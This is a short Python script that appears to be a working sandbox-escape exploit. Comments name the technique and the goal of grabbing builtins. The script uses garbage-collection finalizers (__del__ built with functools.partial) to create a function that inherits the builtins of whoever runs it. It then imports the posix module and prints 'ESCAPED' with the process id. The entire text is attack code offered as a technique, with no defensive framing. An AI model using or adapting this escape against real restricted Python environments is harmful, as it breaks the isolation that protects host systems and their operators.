# technique: the same chain makes a function: it takes the builtins of whoever is running
# goal: builtins
# source: own analysis: C callables have no frame
import functools
kept = []
code = compile('import posix; pid = posix.getpid()', 'x', 'exec')
g = {}
make = functools.partial(type(lambda: 0), code)
for _ in range(400):
    class Bomb:
        __del__ = staticmethod(functools.partial(next, map(kept.append, map(make, [g])), None))
    bomb = Bomb()
    bomb.self = bomb
del bomb
import difflib, calendar, statistics, uuid, hashlib
kept[0]()
print('ESCAPED pid=%d' % g['pid'])
